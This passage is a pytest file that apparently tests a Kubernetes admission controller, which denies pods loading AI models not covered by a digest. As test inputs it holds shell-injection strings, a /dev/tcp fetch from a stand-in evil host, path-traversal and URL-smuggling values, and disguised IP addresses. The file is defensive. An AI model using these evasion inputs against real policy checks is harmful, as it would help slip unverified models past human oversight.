"""Under `strict` everything that can name or hold a model is covered by a digest or denied: decoys, and what is none."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gitchain.admit import option_names, word_shapes
from gitchain.admit.admission import Admission
from gitchain.admit.candidates import text_digest
from gitchain.admit.denial_reasons import DenialReason
from gitchain.admit.model_problems import ModelSearchSettings
from gitchain.admit.models import models_of
from gitchain.admit.review import read_envelope, read_request
from gitchain.evidence.canonical import canonical_json
from tests.support.admission import REGISTRY, codes, digest, judged, kserve, oci, pod, review, templated
from tests.support.fuzzing import sized

GOOD = f"{REGISTRY}/good@sha256:{digest('good')}"
STRICT = ModelSearchSettings()
Object = dict[str, Any]


def problems(source: Object, looking: ModelSearchSettings = STRICT, namespace: str = "prod") -> set[str]:
    """Return the codes of what is wrong with an object, before any verdict."""
    return {str(one.code) for one in reasons(source, looking, namespace)}


def reasons(
    source: Object, looking: ModelSearchSettings = STRICT, namespace: str = "prod"
) -> tuple[DenialReason, ...]:
    uid, request = read_envelope(canonical_json(review(source, namespace=namespace)))
    return models_of(read_request(uid, request), looking).problems


def serving(*arguments: str, annotations: dict[str, str] | None = None, **container: Any) -> Object:
    """Return a pod that serves the good model from an image volume, and says so in an annotation."""
    given = {"gitchain.dev/model": f"sha256:{digest('good')}", **(annotations or {})}
    found = pod(*arguments, annotations=given, volumes=[{"name": "m", "image": {"reference": GOOD}}])
    found["spec"]["containers"][0] |= container
    return found


def with_volume(volume: Object, **more: Any) -> Object:
    found = serving(**more)
    found["spec"]["volumes"].append({"name": "v", **volume})
    return found


def variable(name: str, **more: Any) -> Object:
    return serving(env=[{"name": name, **more}])


OPTIONS = [
    *("--model", "--model_id", "--model-id", "--model_name_or_path", "--model-path", "--modelId", "-m", "-hf"),
    *("--tokenizer", "--draft-model", "--lora-modules", "--adapter", "--speculative-model", "--pretrained", "--hf-repo"),
    *("--checkpoint", "--weights-path", "--ANY_MODEL", "--embedding-model-name", "--llm"),
]  # fmt: skip
VARIABLES = [
    "MODEL",
    "MODEL_ID",
    "HF_MODEL_ID",
    "MODEL_NAME",
    "TOKENIZER",
    "LORA_ADAPTERS",
    "modelId",
    "REPO_ID",
]
NAMES = ["evil/llama", "gpt2", "evil/llama:Q4_K_M", "llama3:8b", "models/evil", "org.x/y-z_1", "a/b/c"]
PLACES: dict[str, Callable[[str], Object]] = {
    **{f"{one} X": lambda text, one=one: serving(one, text) for one in OPTIONS},  # type: ignore[misc]
    **{f"{one}=X": lambda text, one=one: serving(f"{one}={text}") for one in OPTIONS},  # type: ignore[misc]
    **{f"{one}: X": lambda text, one=one: variable(one, value=text) for one in VARIABLES},  # type: ignore[misc]
    "the only argument": serving,
    "vllm serve X": lambda text: serving("serve", text),
    "command": lambda text: serving(command=["vllm", "serve", text]),
    "behind a flag": lambda text: serving("serve", "--enable-prefix-caching", text),
    "behind --": lambda text: serving("serve", "--", text),
    "the second of an option": lambda text: serving("--lora-modules", "a=/mnt/a", f"b={text}"),
    "a pair": lambda text: serving("--lora-modules", f"sql={text}"),
    "JSON": lambda text: serving("--config", f'{{"port": 80, "model": "{text}"}}'),
    "JSON in an option": lambda text: serving(f'--x={{"models":["{text}"]}}'),
    "JSON, further in": lambda text: serving(f'--x={{"model": {{"a": [{{"b": "{text}"}}]}}}}'),
    "JSON with a key twice": lambda text: serving(f'--x={{"model": "{text}", "model": "/m"}}'),
    "YAML in a variable": lambda text: variable("CONFIG", value=f"port: 80\nmodel: {text}\n"),
    "JSON in a variable": lambda text: variable("CONFIG", value=f'{{"model":"{text}"}}'),
    "a command line in a variable": lambda text: variable("ARGS", value=f"--port 80 --model {text}"),
    "a program": lambda text: serving(command=["sh", "-c", f"exec vllm serve {text}"]),
    "a program in lines": lambda text: serving(command=["bash", "-ec", f"cd /\nvllm serve '{text}'\n"]),
    "a program that puts it together": lambda text: serving("sh", "-c", f"a={text}; vllm serve ${{a}}"),
    "a program that decodes": lambda text: serving("sh", "-c", "vllm serve $(echo ZXZpbA== | base64 -d)", text),
    "a probe": lambda text: serving(livenessProbe={"exec": {"command": ["/bin/load", text]}}),
    "a hook": lambda text: serving(lifecycle={"postStart": {"exec": {"command": ["/bin/load", text]}}}),
    "Python": lambda text: serving(command=["python3", "-m", "vllm.entrypoints.openai.api_server", "--model", text]),
    "Python's model": lambda text: serving(command=["serve", "-m", text]),
    "an annotation": lambda text: serving(annotations={"example.com/model-id": text}),
    "init container": lambda text: pod(volumes=[{"name": "m", "image": {"reference": GOOD}}],
                                       initContainers=[{"name": "x", "args": ["--model", text]}]),
    "ephemeral container": lambda text: pod(volumes=[{"name": "m", "image": {"reference": GOOD}}],
                                            ephemeralContainers=[{"name": "x", "args": ["--model", text]}]),
}  # fmt: skip
SOURCES: dict[str, Object] = {
    "a claim": with_volume({"persistentVolumeClaim": {"claimName": "models"}}),
    "the node": with_volume({"hostPath": {"path": "/models"}}),
    "a driver": with_volume({"csi": {"driver": "models.example.com"}}),
    "a share": with_volume({"nfs": {"server": "nfs.example.com", "path": "/models"}}),
    "a repository": with_volume({"gitRepo": {"repository": "/models"}}),
    "a claim of its own": with_volume({"ephemeral": {"volumeClaimTemplate": {"spec": {}}}}),
    "a kind that nobody knows": with_volume({"modelVolume": {"id": "x"}}),
    "no mapping": with_volume({"persistentVolumeClaim": None}),
}
ELSEWHERE: dict[str, Object] = {
    "a ConfigMap": with_volume({"configMap": {"name": "models"}}),
    "a Secret": with_volume({"secret": {"secretName": "models"}}),
    "a projected ConfigMap": with_volume({"projected": {"sources": [{"configMap": {"name": "models"}}]}}),
    "an annotation in a file": with_volume({"downwardAPI": {"items": [{"path": "m", "fieldRef": {
        "fieldPath": "metadata.annotations['m']"}}]}}),
    "all of a ConfigMap": serving(envFrom=[{"configMapRef": {"name": "models"}}]),
    "all of a Secret": serving(envFrom=[{"prefix": "X_", "secretRef": {"name": "models"}}]),
    "a key of a ConfigMap": variable("X", valueFrom={"configMapKeyRef": {"name": "models", "key": "x"}}),
    "a key of a Secret": variable("X", valueFrom={"secretKeyRef": {"name": "models", "key": "x"}}),
    "a file": variable("X", valueFrom={"fileKeyRef": {"volumeName": "v", "key": "x"}}),
    "an annotation": variable("X", valueFrom={"fieldRef": {"fieldPath": "metadata.annotations['m']"}}),
    "a label": variable("X", valueFrom={"fieldRef": {"fieldPath": "metadata.labels['m']"}}),
    "the name, for a model": variable("MODEL_ID", valueFrom={"fieldRef": {"fieldPath": "metadata.name"}}),
}  # fmt: skip
SCHEMED = [
    *("https://hub.example.com/evil/llama", "http://example.com/m", "ftp://example.com/m", "git+ssh://example.com/m"),
    *("ollama://evil", "x://y", "file://server/share", "s3://bucket/m", "ngc://m", "s3://b,oci://x", "://m"),
]  # fmt: skip


HIDDEN = "||vllm${IFS}serve${IFS}owner/gpt2"
JOINED: list[Object] = [
    *(serving(command=["sh", "-c", f"{one}:///x{HIDDEN}"]) for one in ("file", "unix", "FILE")),
    *(serving(command=["sh", "-c", f"file:///x{mark}{{vllm,serve,owner/gpt2}}"]) for mark in ";|&"),
    serving(command=["sh", "-c", "unix:///x;vllm<owner>/y"]),
    serving(command=["sh", "-c", "file:///" + "x" * 5000 + HIDDEN]),
    serving(command=["sh", "-c", f"file:///x'{HIDDEN}'"]),
    serving(livenessProbe={"exec": {"command": ["sh", "-c", f"file:///x{HIDDEN}"]}}),
    serving("serve", "file:///x,owner/gpt2"),
    serving("--from", "file:///x,owner/gpt2"),
]  # fmt: skip
AFTER_M: list[Object] = [
    serving("--host", "python", "-m", "owner/gpt2"),
    serving("--host", "python", "-m", "gpt2"),
    serving("--alias", "/usr/bin/python3", "-m", "owner/gpt2"),
    serving("python", "-m", "owner/gpt2"),
    serving("python", "-m", "gpt2"),
    serving("-m", "gpt2.v1"),
    serving(command=["/usr/bin/llama-server", "--host", "python"], args=["-m", "gpt2"]),
    serving(command=["python3", "-m", "owner/gpt2"]),
    serving(command=["python3", "-m", "vllm.entrypoints.openai.api_server", "-m", "gpt2"]),
    serving(command=["python3", "/x/serve.py", "-m", "gpt2"]),
    serving(command=["python3", "--", "-m", "gpt2"]),
    *(serving(command=["sh", "-c", program]) for program in (
        "/usr/bin/llama-server --host python -m owner/gpt2",
        "/usr/bin/llama-server --host python -m gpt2",
        "/usr/bin/llama-server exec python -m gpt2",
        "/usr/bin/llama-server --host ';' python -m gpt2",
        "/usr/bin/llama-server --host '\npython' -m gpt2",
        "/usr/bin/llama-server >& python -m gpt2",
        "exec python3 -m vllm.x; /usr/bin/llama-server -m gpt2",
    )),
    variable("ARGS", value="python -m gpt2"),
]  # fmt: skip
AS_A_KEY: list[Object] = [
    *(variable("MODEL_ID", value=text) for text in ("gpt2:", "gpt2=", "gpt2 :", "my-model:", "gpt2-size=", "a=,b")),
    *(variable("MODELS", value=text) for text in ('{"gpt2":{}}', '[{"gpt2":1}]', '{"gpt2":"x"}', "{gpt2: {}}")),
    *(serving(text) for text in ("--model=gpt2:", "--model=gpt2=", '--x={"models":{"gpt2":{}}}', "--x=model=gpt2:")),
    serving("--model", "gpt2:"),
    serving("--lora-modules", "gpt2="),
    serving(annotations={"example.com/model-id": "gpt2:"}),
]  # fmt: skip
ADDRESSES: list[Object] = [
    *(serving("/usr/bin/curl", "-o", "/m/x", one)
      for one in ("10.0.0.1:8000", "10.0.0.1", "10.0.0.1/7", "10.0.0.1:80/7", "10.1:8000", "10.1/7", "0.0.0.0/7")),
    serving(command=["sh", "-c", "exec /usr/bin/curl -o /m/x 10.0.0.1:8000"]),
    serving("--model=10.0.0.1/7"),
    serving("--model=10.0.0.1:8000"),
    *(serving(*words) for words in (["--model", "4711/1"], ["--model=4711/1"], ["serve", "4711/1"], ["-hf", "4711/1"])),
    variable("MODEL_ID", value="4711/1"),
    *(serving(*words) for words in (["/usr/bin/smbclient", "//evil.example.com/share"], ["--model=//evil.example.com/x"])),
    *(serving("--model", one) for one in ("/dev/tcp/evil.example.com/80", "//proc/1/root/m", "/proc/1/root/m")),
    serving(command=["bash", "-c", "/bin/cat </dev/tcp/evil.example.com/80 >/m/x; exec /bin/server --model /m/x"]),
]  # fmt: skip
GLUED = [
    serving(one) for one in ("-hfgpt2", "-mgpt2", "-mgpt-2", "-mgpt2.v1", "-hfowner/gpt2", "-mowner/gpt2")
]


HIDING = [*JOINED, *AFTER_M, *AS_A_KEY, *ADDRESSES, *GLUED]


@pytest.mark.parametrize("source", HIDING, ids=range(len(HIDING)))
def test_a_decoy_that_looks_harmless_at_first_is_denied(source: Object) -> None:
    """Behind a local address, behind `-m`, as a key, as an address in numbers, and with no blank behind its option."""
    assert "GC-A0208" in problems(source)


def shell(program: str) -> Object:
    return serving(command=["sh", "-c", program])


LOGS = ModelSearchSettings(
    ignore=("https://good.example.com/logs/*", "--log=https://good.example.com/logs/*", "--x=a*", "b*")
)
IN_A_SHELL = [
    "/usr/bin/curl https://good.example.com/logs/''../x",
    "/usr/bin/curl https://good.example.com/logs/.''./x",
    "/usr/bin/curl https://good.example.com/logs/'../x'",
    "/usr/bin/curl https://good.example.com/logs/';'/../x",
    "/usr/bin/curl https://good.example.com/logs/' '/../x",
    '/usr/bin/curl https://good.example.com/logs/""%2e/x',
    "/usr/bin/curl https://good.example.com/logs/.?/x",
    "/usr/bin/curl https://good.example.com/logs/.[.]/x",
    "/usr/bin/curl https://good.example.com/logs/{a,.''./x}",
    "/usr/bin/curl https://good.example.com/logs/\\\n../x",
    "/usr/bin/curl https:''//evil.example.com/x",
    "/usr/bin/curl htt''ps://good.example.com/logs/x",
    "/usr/bin/curl 'https://good.example.com/logs/x'",
    "/usr/bin/curl <<x\nhttps://good.example.com/logs/;../x\nx",
    "/bin/echo '0 https://good.example.com/logs/;/../x 0'",
    "/x --log=https://good.example.com/logs/''../x",
    "/x --log https://good.example.com/logs/''../x",
    "/x --x=owner''/gpt2",
    "/x --x=a''/gpt2",
    "/x --x=owner{/gpt2,}",
    "/x --x=a{/gpt2,}",
    "/x b''/../gpt2",
    "/x --l\\lm=gpt2",
    "/x --mo{d,x}el=gpt2",
    "/x --mod${x}el=gpt2",
    "/x --mod$@el=gpt2",
    "/x --mod''el=gpt2",
    "/x --l''lm=gpt2",
    "/x --model=`/m/x`",
    "/x --x=`/m/x`",
    "/x -''m gpt2",
    "pyth''on -m gpt2",
]


@pytest.mark.parametrize("program", IN_A_SHELL)
def test_a_shell_cannot_make_a_word_that_was_not_looked_at(program: str) -> None:
    """Of quotes, escapes, braces and variables a shell makes other words: no pattern passes over them."""
    assert "GC-A0208" in problems(shell(program), LOGS)
    assert problems(variable("ARGS", value=program), LOGS)


@pytest.mark.parametrize(
    "program",
    [
        "/usr/bin/curl https://good.example.com/logs/x",
        "/usr/bin/curl https://good.example.com/logs/x; sleep 5",
        "/bin/echo '/m' && /usr/bin/curl https://good.example.com/logs/x && sleep 5",
        "/x --log=https://good.example.com/logs/x --x=a1 beta",
        "exec tritonserver --model-store='/mnt/models' --http-port=\"8080\"",
        "{ /x --port 80; }",
        "/x --host '0.0.0.0' --dtype 'auto'",
        f"exec vllm serve '{oci('good')}'",
    ],
)
def test_words_of_a_shell_that_are_plain_pass(program: str) -> None:
    assert problems(shell(program), LOGS) == set()


@pytest.mark.parametrize("option", ["--$(OPTION)", "--mo$(D)el", "--{{.Labels.option}}", "-$(M)"])
def test_an_option_whose_name_is_put_together_can_be_about_a_model(option: str) -> None:
    for source in (serving(f"{option}=gpt2"), serving(option, "gpt2")):
        assert problems(source) == {"GC-A0208"}


@pytest.mark.parametrize(
    "text", ["https://good.example.com/logs/.''./x", 'https://good.example.com/logs/."".']
)
def test_a_quote_ends_no_address_that_goes_on(text: str) -> None:
    """In any field, with any rule."""
    rule = ModelSearchSettings(ignore=("https://good.example.com/logs/*", "s3://logs/*"))
    assert problems(serving(other={"x": text}), rule) == {"GC-A0201"}
    text = text.replace("https://good.example.com/logs", "s3://logs")
    lenient = ModelSearchSettings(ignore=("s3://logs/*",), strict=False)
    assert problems(serving(other={"x": text}), lenient) == {"GC-A0201"}
    assert problems(serving(other={"x": '{"to":"s3://logs/x","port":80}'}), lenient) == set()


DISGUISED = [
    *("167772161:8000", "167772161:8000/x", "0x0a000001:80", "0x0A000001:80/x", "0xa.0.0.1", "10.0x1:80", "0x0a000001/x"),
    "01200000001:80",
]  # fmt: skip
COMPACT = ["167772161", "10.1", "10.0.1", "10.0.0.1", "10.1.", "012.1", "1.5", "16777216"]
PATHS = ["/x:owner/gpt2", "./x:owner/gpt2", "/x:gpt2", "~/x:owner/gpt2", "..:owner/gpt2", "/a:/b:owner/gpt2"]


@pytest.mark.parametrize("text", DISGUISED)
def test_a_disguised_address_is_denied_everywhere(text: str) -> None:
    for source in (serving(text), serving(f"--x={text}"), variable("X", value=text), serving("--host", text)):
        assert problems(source) == {"GC-A0208"}


@pytest.mark.parametrize("text", COMPACT)
def test_a_number_that_can_be_an_address_is_denied_where_one_would_be(text: str) -> None:
    """`curl` takes 167772161 and 10.1 for 10.0.0.1."""
    for source in (serving("/usr/bin/curl", text), serving("/usr/bin/curl", "--silent", text)):
        assert problems(source) == {"GC-A0208"}
    assert problems(serving(f"--x={text}", "--port", text)) == set()


@pytest.mark.parametrize(
    "text", ["0", "8080", "0.5", "16777215", ":8080", "12:30:00", "4096:8192", "300.5", "0:268435456"]
)
def test_a_number_that_can_be_no_address_is_harmless(text: str) -> None:
    assert problems(serving(text, "--x", text)) == set()


@pytest.mark.parametrize("text", PATHS)
def test_what_follows_a_path_is_looked_at(text: str) -> None:
    for source in (
        serving(text),
        serving(f"--x={text}"),
        serving(f"--model={text}"),
        variable("X", value=text),
    ):
        assert problems(source) == {"GC-A0208"}
    if text.startswith("/"):
        assert "GC-A0201" in problems(serving(f"--x=file://{text}"))


@pytest.mark.parametrize(
    "text",
    ["/a:/b", "/run/x.sock:80", "/a:", "/a:./b:..", "unix:///run/x.sock:/y", f"file:///x@sha256:{'a' * 64}"],
)
def test_paths_with_colons_between_are_harmless(text: str) -> None:
    assert problems(serving(text, f"--x={text}")) == set()


@pytest.mark.parametrize("program", ["torchrun", "/opt/venv/bin/torchrun", "python3"])
def test_a_program_that_runs_modules_takes_one(program: str) -> None:
    assert problems(serving(command=[program, "--nproc-per-node=2", "-m", "a.b", "--model=/m"])) == set()
    assert problems(shell(f"exec {program} -m a.b")) == set()
    assert problems(serving(command=[program, "-m", "a.b", "-m", "gpt2"])) == {"GC-A0208"}
    assert problems(serving(command=["/x", program, "-m", "gpt2"])) == {"GC-A0208"}


@pytest.mark.parametrize(
    ("arguments", "line"),
    [
        (["-m", "a.b"], "-m=a.b"),
        (["-metrics-addr", ":8080"], "-metrics-addr"),
        (["--temperature", "1.5"], "--temperature=1.5"),
    ],
)
def test_a_denial_shows_the_line_that_admits(arguments: list[str], line: str) -> None:
    """What cannot be proven harmless stays denied: an image's own program may take `-m` for a model."""
    uid, request = read_envelope(canonical_json(review(serving(*arguments))))
    (found,) = models_of(read_request(uid, request), STRICT).problems
    assert found.help.endswith(f"let the rule ignore '{line}'")
    assert problems(serving(*arguments), ModelSearchSettings(ignore=(line,))) == set()


VOLUMES: list[tuple[str, Any, str]] = [
    ("csi", {"driver": "d.example.com"}, "csi:d.example.com"),
    ("csi", {"driver": "d.example.com", "readOnly": True, "fsType": "ext4"}, "csi:d.example.com"),
    ("csi", {"driver": "d.example.com", "volumeAttributes": {"image": "evil/llama", "b": "1"}},
     "csi:d.example.com?volumeAttributes.b=1&volumeAttributes.image=evil/llama"),
    ("csi", {"driver": "d.example.com", "volumeAttributes": {"a": "1&b=2"}},
     "csi:d.example.com?volumeAttributes.a=1%26b%3D2"),
    ("csi", {"driver": "d.example.com", "nodePublishSecretRef": {"name": "s"}},
     "csi:d.example.com?nodePublishSecretRef.name=s"),
    ("flexVolume", {"driver": "d", "options": {"image": "x"}}, "flexVolume:d?options.image=x"),
    ("iscsi", {"targetPortal": "t:3260", "iqn": "i", "lun": 0}, "iscsi:?iqn=i&lun=0&targetPortal=t:3260"),
    ("glusterfs", {"endpoints": "e", "path": "p"}, "glusterfs:p?endpoints=e"),
    ("rbd", {"monitors": ["a:1", "b"], "image": "i"}, "rbd:?image=i&monitors=%5B%22a:1%22,%22b%22%5D"),
    ("ephemeral", {"volumeClaimTemplate": {"spec": {"dataSource": {"name": "models"}}}},
     "ephemeral:?volumeClaimTemplate.spec.dataSource.name=models"),
    ("hostPath", {"path": "/dev/shm", "type": "Directory"}, "hostPath:/dev/shm"),
    ("persistentVolumeClaim", {"claimName": "c", "readOnly": True}, "persistentVolumeClaim:c"),
    ("nfs", {"server": "nas.example.com", "path": "/m", "readOnly": True}, "nfs:nas.example.com/m"),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "source", "text"), VOLUMES)
def test_a_volume_is_named_by_all_that_chooses_its_content(kind: str, source: Object, text: str) -> None:
    """A driver, or a server's path, does not tell which volume: what else chooses one belongs to the text."""
    volume = with_volume({kind: source})
    uid, request = read_envelope(canonical_json(review(volume)))
    assert any(text in problem.help for problem in models_of(read_request(uid, request), STRICT).problems)
    for pattern in (text, f"{kind}:*"):
        assert problems(volume, ModelSearchSettings(ignore=(pattern,))) == set()
    driver, mark, _ = text.partition("?")
    if mark:
        assert problems(volume, ModelSearchSettings(ignore=(driver,))) == {"GC-A0208"}


LOCAL_PATTERN = ModelSearchSettings(
    ignore=("http://localhost:*", "URL=http://localhost:*", "--url=http://localhost:*")
)


@pytest.mark.parametrize(
    "more", [HIDDEN, ";{vllm,serve,a/b}", "/`a/b`", "/$(x)|y", ",owner/gpt2", ",gpt2", "\\x"]
)
def test_a_pattern_for_addresses_matches_no_program_and_no_list(more: str) -> None:
    """Only an address, also of several values."""
    text = f"http://localhost:8{more}"
    for source in (
        serving(command=["sh", "-c", text]),
        variable("URL", value=text),
        serving(f"--url={text}"),
    ):
        assert problems(source, LOCAL_PATTERN)
        written = (*LOCAL_PATTERN.ignore, text, f"URL={text}", f"--url={text}")
        assert problems(source, ModelSearchSettings(ignore=written)) == set()


@pytest.mark.parametrize("text", ["8/x,10.0.0.1", "8/x,167772161"])
def test_a_pattern_for_addresses_matches_no_address_behind_a_comma(text: str) -> None:
    """An address in a list can be a second server."""
    assert problems(serving(f"--url=http://localhost:{text}"), LOCAL_PATTERN)
    assert problems(variable("URL", value=f"http://localhost:{text}"), LOCAL_PATTERN)


@pytest.mark.parametrize("text", ["8/x?a=1&b=2", "8/x?box=1,2.5", "8,http://localhost:9", "8/{{.Name}}"])
def test_a_pattern_for_addresses_matches_each(text: str) -> None:
    assert problems(serving(f"http://localhost:{text}"), LOCAL_PATTERN) == set()
    assert problems(variable("URL", value=f"http://localhost:{text}"), LOCAL_PATTERN) == set()


@pytest.mark.parametrize("where", PLACES)
def test_a_decoy_is_denied_wherever_it_stands(where: str) -> None:
    """A good model in a volume and a good digest in an annotation hide no other model."""
    assert problems(serving()) == set()
    for name in NAMES:
        assert problems(PLACES[where](name)) == {"GC-A0208"}, name


@pytest.mark.parametrize("text", SCHEMED)
def test_any_scheme_is_denied_without_a_digest(text: str) -> None:
    """In arguments, variables, and fields that nobody foresaw."""
    for source in (
        serving(text),
        serving(f"--x={text}"),
        variable("X", value=text),
        serving(other={"x": text}),
    ):
        assert problems(source) & {"GC-A0201", "GC-A0208"}


@pytest.mark.parametrize("what", SOURCES)
def test_a_volume_that_nobody_sees_is_denied(what: str) -> None:
    """Whatever its kind; the operator may pass over one, and an annotation covers it where the node verifies."""
    source = SOURCES[what]
    assert problems(source) == {"GC-A0208"}
    assert problems(templated("apps/v1", "Deployment", source)) == {"GC-A0208"}
    covered = copy.deepcopy(source)
    covered["metadata"]["annotations"] = {"gitchain.dev/model.v": f"sha256:{digest('good')}"}
    assert problems(covered) == {"GC-A0208"}
    for looking in (ModelSearchSettings(claims=True), ModelSearchSettings(guarded=())):
        assert problems(covered, looking) == set()
    kind, *_ = (key for key in source["spec"]["volumes"][1] if key != "name")
    for looking in (ModelSearchSettings(ignore=(f"{kind}:*",)), ModelSearchSettings(guarded=(f"{kind}:*",))):
        assert problems(source, looking) == set()


@pytest.mark.parametrize("what", ELSEWHERE)
def test_what_the_request_does_not_show_is_denied(what: str) -> None:
    """An annotation covers no text that nobody sees; the operator may name what holds no models."""
    assert problems(ELSEWHERE[what]) == {"GC-A0207"}
    for looking in (ModelSearchSettings(claims=True), ModelSearchSettings(guarded=())):
        assert problems(ELSEWHERE[what], looking) == {"GC-A0207"}
    if "for a model" not in what:
        ignore = ("configMap:models", "secret:models", "file:*", "fieldRef:*")
        assert problems(ELSEWHERE[what], ModelSearchSettings(ignore=ignore)) == set()


def test_an_annotation_covers_one_reference() -> None:
    """The one of its name if that is alone there, or the only one of all; never two, and never what is named elsewhere."""
    claims, good = ModelSearchSettings(claims=True), f"sha256:{digest('good')}"
    for notes, arguments, expected in (
        ({"gitchain.dev/model": good}, ("--model=a/b",), set()),
        ({"gitchain.dev/model": good}, ("--model=a/b", "--tokenizer=evil/t"), {"GC-A0208"}),
        ({"gitchain.dev/model.server": good}, ("--model=a/b",), set()),
        ({"gitchain.dev/model.server": good}, ("--model=a/b", "--model=a/b"), set()),
        ({"gitchain.dev/model.server": good}, ("--model=a/b", "--draft-model=evil/d"), {"GC-A0208"}),
        ({"gitchain.dev/model.server": good}, ("s3://b/a", "s3://b/evil"), {"GC-A0201"}),
        ({"gitchain.dev/model.other": good}, ("--model=a/b",), {"GC-A0208"}),
    ):
        assert problems(pod(*arguments, annotations=notes), claims) == expected, (notes, arguments)
        assert problems(pod(*arguments, annotations=notes))


def test_an_annotation_alone_names_a_model_only_where_claims_count(ready: Admission) -> None:
    """Nothing binds what a container loads to what is written beside it."""
    source = pod("--port=80", annotations={"gitchain.dev/model": f"sha256:{digest('good')}"})
    assert codes(judged(ready, review(source))) == {"GC-A0205"}
    assert judged(ready, review(source, namespace="claims")).reason == "verified"


def test_a_name_with_a_digest_is_demanded() -> None:
    """In free text too, where a tool may resolve it."""
    source = serving(f"--model={REGISTRY}/second@sha256:{digest('second')}")
    uid, request = read_envelope(canonical_json(review(source)))
    found = models_of(read_request(uid, request), STRICT)
    assert (set(found.models), found.problems) == ({digest("good"), digest("second")}, ())


HARMLESS: list[Object] = [
    serving("serve", "/mnt/models", "--served-model-name", "credit", "--host", "0.0.0.0", "--port=8080",
            "--dtype", "auto", "--max-model-len", "4096", "--gpu-memory-utilization=0.9", "--enable-prefix-caching",
            "--tool-call-parser=hermes", "--lora-modules", "sql=/mnt/lora", "--tensor-parallel-size", "2"),
    serving("--model", "/mnt/models", "--tokenizer=/mnt/models/t", "--model-impl", "auto", "--load-format=safetensors"),
    serving(command=["python3", "-m", "huggingfaceserver"], args=["--model_name={{.Name}}", "--model_dir=/mnt/models"]),
    serving(command=["/bin/sh", "-c", "exec tritonserver --model-store=/mnt/models --http-port=8080"]),
    serving("--compilation-config", '{"level": 3, "mode": "full"}', "--advertise=$(POD_IP):8080"),
    serving(env=[{"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
                 {"name": "CPUS", "valueFrom": {"resourceFieldRef": {"resource": "limits.cpu"}}},
                 {"name": "HF_HUB_OFFLINE", "value": "1"}, {"name": "LOG_LEVEL", "value": "debug"},
                 {"name": "MODEL_DIR", "value": "/mnt/models"}, {"name": "MLSERVER_MODEL_IMPLEMENTATION",
                  "value": "mlserver_sklearn.SKLearnModel"}, {"name": "EMPTY", "value": ""}, {"name": "NONE"}]),
    serving("--socket", "unix:///run/x.sock", "--log=file:///logs/$(POD)/a.log", "file:///x", "--bind", "0.0.0.0:80"),
    serving("--proxies=10.0.0.0/8,10.0.0.1", "--master=10.0.0.1:80", "--host", "10.0.0.1", "127.0.0.1:80", "--shard=1/2",
            "--part", "0.5", "--time", "12:30:00"),
    variable("NO_PROXY", value="10.0.0.0/8,192.168.0.1,127.0.0.1,.svc,localhost"),
    serving("python3", "-m", "vllm.entrypoints.openai.api_server", "--model", "/mnt/models"),
    serving(command=["/usr/bin/python3.12", "-u"], args=["-m", "server", "--model=/mnt/models"]),
    serving(command=["sh", "-c", "sleep 5; exec python3 -m server --model '/mnt/models'"]),
    serving(command=["bash", "-ec", "sleep 5\npython3 -m vllm.server && sleep infinity"]),
    serving("--model-loader-extra-config", '{"anything": 16}', "--lora-modules", "a=/mnt/a", "b=/mnt/b",
            "--lora-modules", '{"name": "/mnt/a", "path": "/mnt/a"}', '--x={"model": {"path": "/m", "max_len": 4}}'),
    serving(env=[{"name": "MODELS", "value": '{"credit": "/mnt/credit"}'},
                 {"name": "MODEL_PATHS", "value": "credit=/mnt/credit,fraud=/mnt/fraud"}]),
    with_volume({"emptyDir": {"medium": "Memory"}}),
    with_volume({"projected": {"sources": [{"serviceAccountToken": {"path": "token"}},
                 {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
                 {"downwardAPI": {"items": [{"path": "ns", "fieldRef": {"fieldPath": "metadata.namespace"}}]}}]}}),
    serving(annotations={"prometheus.io/path": "/metrics", "example.com/doc": "https://example.com/docs",
                         "kubectl.kubernetes.io/last-applied-configuration": '{"args":["--model=s3://x"]}'}),
]  # fmt: skip


@pytest.mark.parametrize("source", HARMLESS, ids=range(len(HARMLESS)))
def test_what_common_servers_are_told_besides_is_harmless(source: Object) -> None:
    """Paths into volumes that are covered, names for clients, numbers, and what Kubernetes mounts itself."""
    assert problems(source) == set()


def test_the_operator_passes_over_a_text() -> None:
    """As it is, by a pattern, or by its digest; each only what it is about."""
    program = "echo start && exec vllm serve /mnt/models"
    source = serving("sh", "-c", program)
    assert problems(source) == {"GC-A0208"}
    assert problems(source, ModelSearchSettings(ignore=(text_digest(program),))) == set()
    assert problems(
        serving("sh", "-c", program + " evil/llama"), ModelSearchSettings(ignore=(text_digest(program),))
    )
    fetching = "curl http://localhost:80/health"
    assert (
        problems(serving("sh", "-c", fetching), ModelSearchSettings(ignore=(text_digest(fetching),))) == set()
    )
    for more in ("http://localhost:80 ; vllm serve evil/llama", "http://localhost:80\nevil/llama"):
        assert problems(serving("sh", "-c", more), ModelSearchSettings(ignore=("http://localhost:*",)))
    assert problems(serving("--mime=text/plain"), ModelSearchSettings(ignore=("--mime=*",))) == set()
    assert problems(serving("--model=text/plain"), ModelSearchSettings(ignore=("--mime=*",))) == {"GC-A0208"}
    assert problems(variable("MODEL", value="x"), ModelSearchSettings(ignore=("MODEL=x",))) == set()
    assert (
        problems(
            variable("URL", value="http://localhost:80/"), ModelSearchSettings(ignore=("http://localhost:*",))
        )
        == set()
    )


ELSEWHERE_THAN_SHOWN = [
    ("http://localhost:*", "http://localhost:80@models.example.com/llama"),
    ("http://localhost:*", "http://localhost:" + "0" * 5000 + "@models.example.com/llama"),
    ("s3://logs/*", "s3://logs/../models/llama"),
    ("s3://logs/*", "s3://logs/%2E%2e/models/llama"),
    ("hdfs://logs/*", "hdfs://logs/a/.."),
    ("http://localhost:*", "http://localhost:80$(AT)models.example.com/llama"),
    ("http://localhost:*", "http://localhost:80${AT}models.example.com/llama"),
    ("s3://logs/*", "s3://logs/$(UP)/models/llama"),
    ("s3://logs/*", "s3://logs/.\\./models/llama"),
    ("s3://logs/*", "s3://logs/a%2f..%2f..%2fmodels%2fllama"),
    ("s3://logs/*", "s3://logs/a%5C..%5Cmodels"),
    ("http://me@good.example.com:*", "http://me@good.example.com:1@models.example.com/llama"),
    ("http://me@good.example.com/*", "http://me@good.example.com/../models/llama"),
]


@pytest.mark.parametrize(("pattern", "text"), ELSEWHERE_THAN_SHOWN)
@pytest.mark.parametrize("option", ["--log-to=", "--model=", ""])
